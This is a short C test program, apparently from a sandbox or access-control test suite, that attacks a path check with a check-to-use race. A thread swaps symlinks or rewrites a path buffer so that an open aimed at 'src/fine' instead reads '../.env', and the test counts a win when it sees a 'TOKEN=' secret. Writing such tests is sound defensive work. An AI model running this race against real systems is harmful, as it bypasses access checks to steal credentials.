// Class 7: change what a name means between the check and the use.
#include <pthread.h>
#include <time.h>

#include "attack.h"

static volatile int done;
static char path[64] = "src/fine";

static void *swap_links(void *unused) {
    while (!done) {
        rename("src/to-fine", "src/link");
        symlink("fine", "src/to-fine");
        rename("src/to-env", "src/link");
        symlink("../.env", "src/to-env");
    }
    return unused;
}

static void put(const char *name) {
    for (size_t i = 0; i <= strlen(name); i++) *(volatile char *)(path + i) = name[i];
}

static void *rewrite_buffer(void *unused) {
    while (!done) {
        put(".env");
        put("src/fine");
    }
    return unused;
}

int main(int argc, char **argv) {
    const char *cell = start(argc, argv);
    const char *name = path;
    void *(*thread)(void *) = rewrite_buffer;
    CELL("symlink-swap") {
        thread = swap_links;
        name = "src/link";
    }
    make("src/fine");
    SETUP(symlink("fine", "src/to-fine"));
    SETUP(symlink("../.env", "src/to-env"));
    pthread_t swapper;
    SETUP(-pthread_create(&swapper, NULL, thread, NULL));
    time_t end = time(NULL) + 3;
    int opened = 0;
    while (time(NULL) < end) {
        char text[64] = "";
        int fd = open(name, O_RDONLY);
        if (fd < 0) continue;
        opened++;
        ssize_t n = read(fd, text, sizeof text - 1);
        close(fd);
        if (n > 0 && strstr(text, "TOKEN=")) {
            done = 1;
            return through("won the race");
        }
    }
    done = 1;
    if (!opened) return broken("never opened anything");
    errno = EACCES;
    return must("race", -1);
}
